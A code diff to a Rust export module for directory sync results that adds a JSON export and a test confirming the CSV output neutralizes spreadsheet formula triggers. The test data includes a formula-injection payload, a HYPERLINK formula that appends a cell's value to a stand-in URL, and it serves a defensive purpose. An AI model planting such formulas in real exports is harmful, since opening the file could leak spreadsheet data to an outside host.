@@ -172,7 +172,12 @@ pub fn listing_page(listing: &Mutex<Listing>, offset: u32) -> ipc::ListingPage {
     }
 }
 
-/// A result as CSV (RFC 4180 quoting).
+/// A result as JSON, every text exactly as Entra ID gave it.
+pub fn to_json(result: &ipc::SyncResult) -> Result<String, IpcError> {
+    serde_json::to_string_pretty(result).map_err(|e| IpcError::internal(e.to_string()))
+}
+
+/// A result as CSV (RFC 4180 quoting; formula triggers neutralized, see `export::csv_field`).
 pub fn to_csv(result: &ipc::SyncResult) -> String {
     let quote = crate::export::csv_field;
     let mut out = String::from("type,object_id,display_name,outcome,detail\r\n");
@@ -238,6 +243,43 @@ mod tests {
             to_csv(&result),
             "type,object_id,display_name,outcome,detail\r\nuser,o-1,\"Lee, \"\"Ann\"\"\",failed,the account name a@b is already used\r\n"
         );
+    }
+
+    #[test]
+    fn csv_neutralizes_formulas_and_json_stays_exact() {
+        let names = [
+            "=HYPERLINK(\"https://x/?\"&A1,\"open\")",
+            "+1",
+            "-1",
+            "@A1",
+            "\tx",
+            "\rx",
+        ];
+        for name in names {
+            let result = ipc::SyncResult {
+                run_id: 1,
+                counts: ipc::Counts::default(),
+                duration_ms: 5,
+                rows: vec![ipc::OutcomeRow {
+                    kind: ipc::EntryKind::Group,
+                    id: "o-1".into(),
+                    display_name: name.into(),
+                    outcome: ipc::Outcome::Create,
+                    detail: name.into(),
+                }],
+            };
+            let csv = to_csv(&result);
+            let cell = crate::export::csv_field(name);
+            assert!(cell.starts_with("\"'"), "{name:?}: {cell}");
+            assert!(
+                csv.contains(&format!("group,o-1,{cell},created,{cell}\r\n")),
+                "{csv}"
+            );
+            let json = to_json(&result).unwrap_or_default();
+            let back: serde_json::Value = serde_json::from_str(&json).unwrap_or_default();
+            assert_eq!(back["rows"][0]["display_name"], name);
+            assert_eq!(back["rows"][0]["detail"], name);
+        }
     }
 
     #[test]
